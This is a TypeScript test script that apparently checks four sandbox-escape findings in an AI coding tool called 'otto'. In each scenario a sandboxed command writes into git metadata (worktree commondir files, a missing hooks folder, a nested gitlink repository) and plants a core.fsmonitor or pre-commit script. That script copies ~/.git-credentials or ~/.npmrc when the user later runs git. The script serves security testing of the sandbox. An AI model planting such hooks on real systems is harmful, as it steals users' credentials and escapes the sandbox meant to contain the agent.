/*
 * Findings on what git outside reads from a git directory the sandbox can write:
 *  (a) a user's other linked worktree: `.git/worktrees/<name>/commondir` is writable from a session
 *      in the main checkout (only the session's own git directories' commondir is bound read-only);
 *  (b) otto's temporary worktree: the shared common directory has no `commondir` file, so a
 *      sandboxed command in the temporary worktree creates one and the user's own checkout then
 *      takes its config (core.fsmonitor) from a directory the command made;
 *  (c) a checkout without `.git/hooks` (git init --template=, some clone tools): the folder is
 *      missing when the sandbox is built, so it is not bound read-only and a hook can be planted;
 *  (d) a nested repository registered as a gitlink in the (writable) index: the user's `git status`
 *      descends into it and runs its core.fsmonitor.
 * Run: npx tsx scripts/attack/git-dirs.ts
 */
import fs from "node:fs";
import path from "node:path";
import { spawnSync } from "node:child_process";
import { git, lab, sandboxed, treeOf, verdict } from "./lib.ts";

function plantCommon(pwned: string, gitdir: string, commonOf: string): string {
  // A fake common dir inside a writable git dir, with the real objects/refs and config + fsmonitor.
  return [
    "set -e",
    `d=${gitdir}/x; mkdir -p $d`,
    `ln -s ${commonOf}/objects $d/objects; ln -s ${commonOf}/refs $d/refs`,
    `printf '#!/bin/sh\\ncp ~/.git-credentials ${pwned}; exit 1\\n' > $d/fsm; chmod +x $d/fsm`,
    `{ cat ${commonOf}/config; printf '[core]\\n\\tfsmonitor = %s\\n' $d/fsm; } > $d/config`,
  ].join("\n");
}
const userStatus = (l: { env: Record<string, string> }, dir: string) =>
  spawnSync("git", ["status", "--short"], { cwd: dir, env: l.env, encoding: "utf8" });

{
  const l = lab("gitdirs-a");
  const other = path.join(l.home, "other-wt");
  git(l.env, l.repo, "worktree", "add", "-q", other, "-b", "feature");
  const pwned = path.join(l.home, "PWNED-a");
  const g = path.join(l.repo, ".git");
  const r = sandboxed(l, l.repo, `${plantCommon(pwned, g, g)}\necho $d > ${g}/worktrees/other-wt/commondir\necho planted`);
  console.log(r);
  userStatus(l, other);
  verdict("(a) other worktree's commondir", fs.existsSync(pwned), fs.existsSync(pwned) ? fs.readFileSync(pwned, "utf8").trim() : "no file");
}
{
  const l = lab("gitdirs-b");
  const temp = path.join(l.home, ".local/share/otto/worktrees/wt1");
  fs.mkdirSync(path.dirname(temp), { recursive: true });
  git(l.env, l.repo, "worktree", "add", "-q", "--detach", temp);
  const common = path.join(l.repo, ".git");
  const tree = { ...treeOf(l.env, temp), sharedCommon: common };
  const pwned = path.join(l.home, "PWNED-b");
  const r = sandboxed(l, temp, `${plantCommon(pwned, common, common)}\necho x > ${common}/commondir\necho planted`, tree);
  console.log(r);
  userStatus(l, l.repo);
  verdict(
    "(b) temp worktree -> user's checkout via common/commondir",
    fs.existsSync(pwned),
    fs.existsSync(pwned) ? fs.readFileSync(pwned, "utf8").trim() : "no file",
  );
}
{
  const l = lab("gitdirs-c");
  fs.rmSync(path.join(l.repo, ".git", "hooks"), { recursive: true });
  const pwned = path.join(l.home, "PWNED-c");
  const r = sandboxed(
    l,
    l.repo,
    `mkdir -p .git/hooks && printf '#!/bin/sh\\ncp ~/.npmrc ${pwned}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo planted`,
  );
  console.log(r);
  fs.writeFileSync(path.join(l.repo, "a.txt"), "user edit\n");
  git(l.env, l.repo, "add", "a.txt");
  git(l.env, l.repo, "commit", "-qm", "user's own commit");
  verdict("(c) missing .git/hooks planted", fs.existsSync(pwned), fs.existsSync(pwned) ? fs.readFileSync(pwned, "utf8").trim() : "no file");
}
{
  const l = lab("gitdirs-d");
  const pwned = path.join(l.home, "PWNED-d");
  const r = sandboxed(
    l,
    l.repo,
    [
      "set -e",
      "mkdir vendorlib && cd vendorlib && git init -q && echo x > f && git add f && git -c user.name=a -c user.email=a@b commit -qm x",
      `printf '#!/bin/sh\\ncp ~/.git-credentials ${pwned}; exit 1\\n' > .git/fsm; chmod +x .git/fsm`,
      'git config core.fsmonitor "$PWD/.git/fsm"',
      "sha=$(git rev-parse HEAD); cd ..",
      'git update-index --add --cacheinfo "160000,$sha,vendorlib"',
      "echo planted",
    ].join("\n"),
  );
  console.log(r);
  const st = userStatus(l, l.repo);
  console.log("user's status:", JSON.stringify(st.stdout));
  verdict(
    "(d) gitlink + nested repo fsmonitor",
    fs.existsSync(pwned),
    fs.existsSync(pwned) ? fs.readFileSync(pwned, "utf8").trim() : "no file",
  );
}
